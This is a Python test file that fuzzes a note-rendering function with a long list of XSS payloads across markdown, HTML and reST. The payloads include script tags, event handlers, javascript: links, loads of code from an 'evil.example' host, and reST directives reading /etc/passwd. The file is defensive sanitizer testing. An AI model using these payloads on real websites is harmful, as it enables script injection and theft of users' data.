"""Whatever a note holds, the page shows a few tags and links to the web, and nothing that runs or loads."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_rendering import Inspector

from search.model import Markup
from web.rendering import note_html

MARKUPS: tuple[Markup, ...] = ("markdown", "html", "rst", "text")

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src="https://a.example/x.png" alt=""><script>alert(1)</script>">',
    "段落 <b onclick=alert(1)>太字</b>",
    "<p onmouseover='alert(1)' style='position:fixed'>段落",
    "<a href='javascript:alert(1)'>題</a>",
    "<a href='java\nscript:alert(1)'>題</a>",
    "<a href='&#x6A;avascript:alert(1)'>題</a>",
    "<a href=' javascript:alert(1)'>題</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>題</a>",
    "<a href='https://a.example' target=_blank onclick=alert(1)>題</a>",
    "<a href='https://a.example/\" onclick=\"alert(1)'>題</a>",
    "<a href='https://a.example'><a href='https://b.example'>中</a></a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>題</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>後",
    "<style>@import 'https://evil.example/x.css'",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>送る</button></form>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio src='https://a.example/x.mp3' autoplay>",
    "<details open ontoggle=alert(1)><summary>題</summary>中</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!-- 見えない --> 見える <!-- <script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "</div></article></main><h1>乗っ取り</h1>",
    "<div id=search class=sheet style=color:red>題</div>",
    "<mark>印</mark><dialog open>窓</dialog>",
    "<table><tr><td><table><tr><td></div></td></tr>",
    "<ol start='1\" onclick=\"alert(1)'><li>一</ol>",
    "<pre><code class='x' onclick=alert(1)>a</code></pre>",
    "<p title='>\"><script>alert(1)</script>'>題</p>",
    "[題](javascript:alert(1))",
    "[題](JaVaScRiPt:alert(1))",
    "[題](&#106;avascript:alert(1))",
    "[題](data:text/html,<script>alert(1)</script>)",
    "[題](vbscript:x)",
    "[題](file:///etc/passwd)",
    "[題](//evil.example/x)",
    "[題](https:evil)",
    "[題](http://[::1)",
    '[題](https://a.jp "x\\" onclick=alert(1)")',
    "![図](javascript:alert(1))",
    "![図](https://a.jp/\" onerror='x)",
    "[![図](https://a.jp/x.png)](https://b.jp)",
    "![図 [中](https://c.jp)](https://a.jp/x.png)",
    "<javascript:alert(1)>",
    "[題][参照]\n\n[参照]: javascript:alert(1)",
    '[https://a.example/" onclick=alert(1):title=題<script>]',
    '@[speakerdeck]("><script>alert(1)</script>)',
    "@[card](javascript:alert(1))",
    '{{< youtube "><script>alert(1)</script> >}}',
    ":::details <script>alert(1)</script>\n中\n:::",
    ":::message\n<div>\n:::\n</div></div></div>後",
    "脚注[^<b>]\n\n[^<b>]: <script>alert(1)</script>",
    "```html\n</code></pre><script>x</script>\n```",
    '``` " onclick=x\ncode\n```',
    "`<script>`",
    "| <script> | b |\n|:--|--:|\n| <img onerror=x> | `<b>` |",
    "&lt;script&gt; &#60;b&#62; \x00",
    ".. raw:: html\n\n   <script>alert(1)</script>",
    ".. include:: /etc/passwd",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)",
    "`題 <javascript:alert(1)>`_",
    ".. csv-table::\n   :file: /etc/passwd",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`",
    'https://a.example/"onclick=alert(1) https://a.example/<script>',
]


@pytest.mark.parametrize("markup", MARKUPS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_note_makes_no_tag_attribute_or_link_of_its_own(hostile: str, markup: Markup) -> None:
    Inspector(note_html(hostile, markup=markup))


PIECES = [
    *(
        "<script>",
        "</script>",
        "<svg>",
        "<style>",
        "<img src=x onerror=y>",
        "<a href='https://a.jp'>",
        "</a>",
        "<p",
    ),
    *(
        "<iframe src=",
        "'https://b.jp'",
        ">",
        '"',
        "'",
        "<!--",
        "-->",
        "<table>",
        "<td>",
        "</div>",
        "<math>",
        "&lt;",
    ),
    *(
        "自動",
        "\n",
        "\n\n",
        "**",
        "`",
        "```\n",
        "[",
        "](javascript:x)",
        "](https://c.jp)",
        "![",
        "- ",
        "> ",
        "| ",
    ),
    *(
        ":::",
        "@[a](",
        ")",
        "[^1]",
        "{{<",
        ">}}",
        "https://d.jp/",
        "<details>",
        "<pre>",
        "<textarea>",
        "<title>",
    ),
]


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.sampled_from(MARKUPS))
def test_no_mixture_of_markup_makes_any_either(note: str, markup: Markup) -> None:
    Inspector(note_html(note, lambda text: [(0, len(text))] if text else [], markup=markup))


class _Nesting(HTMLParser):
    def __init__(self, markup: str) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("br", "hr"):
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack.pop() == tag


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_every_element_that_is_opened_is_closed_in_its_place(note: str) -> None:
    assert _Nesting(str(note_html(note))).stack == []


@pytest.mark.parametrize(
    "piece",
    [
        *("<div>", "<p><b>", "<table>", "<a href=x>", ":::a\n", "[^1]", "@[", "[https://", "{{", "**"),
        *("```\n# a\n", "<!--\n# h\n", "{% highlight %}\n", "<iframe>", "<script>", "https://", "![a]("),
        *("`a<", "<b title='"),
    ],
)
def test_a_note_that_repeats_one_sign_is_shown_in_time(piece: str) -> None:
    started = time.process_time()
    Inspector(note_html(piece * (20_000 // len(piece))))
    assert time.process_time() - started < 5
